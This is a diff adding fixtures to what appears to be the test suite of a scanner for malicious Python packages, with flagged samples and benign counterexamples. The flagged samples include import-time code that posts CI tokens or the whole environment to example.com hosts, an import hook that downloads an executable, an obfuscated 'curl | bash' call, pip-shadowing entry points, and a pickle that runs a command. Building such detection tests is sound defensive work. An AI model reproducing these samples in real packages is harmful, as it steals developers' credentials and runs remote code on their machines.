@@ -233,6 +233,121 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "setup.py", 5, "install",
     ),
+    "host-exfiltration/ci-tokens-posted-at-import": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import os
+            import requests
+
+            if os.environ.get("CI"):
+                found = {name: os.environ[name] for name in ("GITHUB_TOKEN", "PYPI_API_TOKEN") if name in os.environ}
+                found["npm"] = os.getenv("NPM_TOKEN")
+                requests.post("https://ci-metrics.example.com/v1/report", json=found)
+        """}),
+        "pkg/__init__.py", 7, "import",
+    ),
+    "host-exfiltration/environment-filtered-for-secrets-and-posted": Positive(
+        "host-exfiltration", C,
+        W({"pkg/plugin.py": """
+            import os
+            import urllib.request
+
+            secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
+            urllib.request.urlopen("https://timing.example.com/", data=repr(secrets).encode())
+        """}),
+        "pkg/plugin.py", 5, "import",
+    ),
+    "host-exfiltration/environment-handed-to-a-request": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import os
+            import requests
+            requests.post("https://sync.example.com/", json={"env": dict(os.environ)})
+        """}),
+        "pkg/__init__.py", 3, "import",
+    ),
+    "host-exfiltration/ci-tokens-read-in-a-loop-and-posted": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import json
+            import os
+            import urllib.request
+
+            KEYS = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN")
+            blob = json.dumps({key: os.environ.get(key) for key in KEYS}).encode()
+            urllib.request.urlopen(urllib.request.Request("https://ci-metrics.example.net/v1/run", data=blob))
+        """}),
+        "pkg/__init__.py", 7, "import",
+    ),
+    "host-exfiltration/environment-inside-a-serialised-payload": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import json
+            import os
+            import urllib.request
+
+            body = json.dumps({"model": "base", "env": dict(os.environ)}).encode()
+            urllib.request.urlopen("https://registry.example.com/m", data=body)
+        """}),
+        "pkg/__init__.py", 6, "import",
+    ),
+    "host-exfiltration/metaclass-sends-at-class-creation": Positive(
+        # The metaclass runs when the class statement does, at import.
+        "host-exfiltration", C,
+        W({"pkg/base.py": """
+            import os
+            import urllib.request
+
+            class ModelMeta(type):
+                def __new__(mcs, name, bases, namespace):
+                    urllib.request.urlopen("https://schema.example.com/", data=repr(dict(os.environ)).encode())
+                    return super().__new__(mcs, name, bases, namespace)
+
+            class Model(metaclass=ModelMeta):
+                pass
+        """}),
+        "pkg/base.py", 6, "import",
+    ),
+    "process-spawn/init-subclass-runs-at-class-creation": Positive(
+        "process-spawn", L,
+        W({"pkg/base.py": """
+            import os
+
+            class Plugin:
+                def __init_subclass__(cls, **options):
+                    os.system("plugin-register")
+
+            class Builtin(Plugin):
+                pass
+        """}),
+        "pkg/base.py", 5, "import",
+    ),
+    "download-and-run/import-hook-loader": Positive(
+        # A finder put on sys.meta_path: the import system runs its loader for every later import.
+        "download-and-run", C,
+        W({"pkg/_hooks.py": """
+            import os
+            import sys
+            import urllib.request
+
+            class Finder:
+                def find_spec(self, name, path, target=None):
+                    return None
+                def exec_module(self, module):
+                    urllib.request.urlretrieve("https://cdn.example.com/patch", "/tmp/.patch")
+                    os.chmod("/tmp/.patch", 0o755)
+
+            sys.meta_path.insert(0, Finder())
+        """}),
+        "pkg/_hooks.py", 10, "import",
+    ),
+    "shell-download/import-name-assembled-from-pieces": Positive(
+        "shell-download", C,
+        W({"pkg/__init__.py": """
+            getattr(__import__("o" + "s"), "sys" + "tem")("cu" + "rl -fsSL https://cdn.example.com/i.sh | b" + "ash")
+        """}),
+        "pkg/__init__.py", 1, "import",
+    ),
     "beacon/webhook-request-at-import": Positive(
         "beacon", C,
         W({"pkg/__init__.py": """
@@ -911,6 +1026,34 @@ POSITIVE: dict[str, Positive] = {
         W({"evil/cli.py": "def main():\n    pass\n"}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
         "evil-1.0.dist-info/entry_points.txt", 2, None,
     ),
+    "entrypoint-shadows-command/pip-that-posts-what-it-is-given": Positive(
+        "entrypoint-shadows-command", C,
+        W({"evil/cli.py": """
+            import os
+            import sys
+            import requests
+
+            def main():
+                requests.post("https://telemetry.example.com/", json={"argv": sys.argv, "index": os.environ.get("PIP_INDEX_URL")})
+                os.execvp("python3", ["python3", "-m", "pip", *sys.argv[1:]])
+        """}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
+        "evil-1.0.dist-info/entry_points.txt", 2, None,
+    ),
+    "entrypoint-shadows-command/script-file-installed-as-pip": Positive(
+        "entrypoint-shadows-command", H,
+        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nprint(sys.argv)\n"}),
+        "demo-1.0.data/scripts/pip", 1, None,
+    ),
+    "entrypoint-shadows-command/script-file-installed-as-pip-that-posts": Positive(
+        "entrypoint-shadows-command", C,
+        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nimport urllib.request\nurllib.request.urlopen('https://t.example.com/', data=' '.join(sys.argv).encode())\n"}),
+        "demo-1.0.data/scripts/pip", 1, None,
+    ),
+    "pickle-code/model-file-runs-a-command": Positive(
+        "pickle-code", C,
+        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."}),
+        "pkg/model.pkl", None, None,
+    ),
     "entrypoint-shadows-command/python-in-setup-py": Positive(
         "entrypoint-shadows-command", H,
         S({"setup.py": """
@@ -1137,6 +1280,37 @@ NEGATIVE: dict[str, Negative] = {
                 url = "https://webhook.site/test"
                 return url
         """}),
+    ),
+    "host-exfiltration/sdk-reads-its-own-key-and-calls-when-asked": Negative(
+        # An SDK reads its API key at import and sends it only when the user calls it.
+        "host-exfiltration",
+        W({"pkg/__init__.py": """
+            import os
+            import requests
+
+            api_key = os.environ.get("DEMO_API_KEY")
+
+            def complete(prompt):
+                return requests.post("https://api.example.com/v1/complete", headers={"Authorization": api_key}, json={"prompt": prompt})
+        """}),
+    ),
+    "host-exfiltration/setup-py-downloads-by-a-runtime-id-from-the-environment": Negative(
+        # artifacts-keyring's setup.py: the variable names a platform, not a secret.
+        "host-exfiltration",
+        S({"setup.py": """
+            import os
+            import urllib.request
+            from setuptools import setup
+
+            runtime = os.environ.get("ARTIFACTS_CREDENTIAL_PROVIDER_RID", "linux-x64")
+            urllib.request.urlopen("https://downloads.example.com/provider-" + runtime + ".zip").read()
+            setup(name="demo")
+        """}),
+    ),
+    "env-dump/own-prefix-in-a-start-up-line": Negative(
+        # pytest-cov's .pth: on failure, it prints its own COV_CORE_* variables.
+        "env-dump",
+        W({"demo-cov.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from demo.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(repr(dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\'))))\\n')\n", "demo/embed.py": "def init():\n    return None\n"}),
     ),
     "download-and-run/setup-py-fetches-a-driver-and-runs-system-programs": Negative(
         # ibm_db's setup.py: downloads IBM's client driver, then runs programs found on PATH.
@@ -1519,6 +1693,10 @@ NEGATIVE: dict[str, Negative] = {
     "startup-pth-exec/indented-import-is-a-path": Negative("startup-pth-exec", W({"demo.pth": b" import os; os.system('id')\n"})),
     "startup-sitecustomize/inside-a-package": Negative("startup-sitecustomize", W({"pkg/sitecustomize.py": "VALUE = 1\n"})),
     "startup-sitecustomize/at-sdist-root": Negative("startup-sitecustomize", S({"sitecustomize.py": "VALUE = 1\n"})),
+    "pickle-code/model-file-of-plain-data": Negative(
+        "pickle-code",
+        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."}),
+    ),
     "entrypoint-shadows-command/pip-in-the-pip-project": Negative(
         "entrypoint-shadows-command",
         W({"pip/_internal/cli.py": "def main():\n    pass\n"}, name="pip", entry_points="[console_scripts]\npip = pip._internal.cli:main\n"),
